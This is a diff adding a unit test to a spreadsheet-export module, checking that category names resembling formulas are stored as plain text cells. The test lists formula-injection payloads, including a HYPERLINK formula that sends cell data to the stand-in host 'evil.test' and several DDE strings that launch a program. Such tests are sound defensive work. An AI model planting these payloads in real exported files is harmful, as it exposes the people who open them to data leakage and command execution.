@@ -138,4 +138,30 @@ describe('scoresXlsx', () => {
     expect(precision).toMatchObject({ t: 'n', v: 0.75, z: '0.0%' });
     expect(book.Sheets['Catégories du message'].C2).toMatchObject({ t: 'n', v: 3 });
   });
+
+  // docs/security.md, "Exports": in a workbook, a name that looks like a formula stays a text cell.
+  it('writes text that looks like a formula as a text cell, never a formula', async () => {
+    const names = [
+      '=HYPERLINK("http://evil.test/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const base = kind('categories');
+    const hostile = {
+      ...base,
+      classifications: names.map((classification) => ({ ...base.classifications[0], classification })),
+    };
+    const blob = await scoresXlsx(
+      scoresSheets({ ...scores, kinds: [hostile], falses: [] }, headers, labels, falsesHeaders),
+    );
+    const book = read(await blob.arrayBuffer(), { type: 'array', cellFormula: true });
+    const sheet = book.Sheets['Catégories du message'];
+    names.forEach((name, i) => {
+      const cell = sheet[`B${i + 2}`] as { t: string; v: unknown; f?: string };
+      expect({ t: cell.t, v: cell.v, f: cell.f }).toEqual({ t: 's', v: name, f: undefined });
+    });
+  });
 });
